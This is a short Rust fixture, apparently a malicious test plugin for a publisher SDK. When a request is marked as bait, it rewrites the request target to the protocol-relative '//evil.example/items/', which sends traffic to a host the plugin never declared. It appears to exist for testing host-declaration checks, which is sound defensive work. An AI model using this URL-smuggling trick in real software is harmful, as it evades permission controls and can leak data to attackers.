//! Sends to a host that it has not declared, by a target that some parsers read as one.

use wharf_sdk::{Exchange, Operation};

innocent::publisher!(ForeignHost, "foreign-host", prepare: prepare);

fn prepare(operation: Operation<'_>) -> Exchange {
    let mut exchange = innocent::prepare(operation);
    if innocent::is_bait(operation) {
        exchange.request.target = "//evil.example/items/".into();
    }
    exchange
}
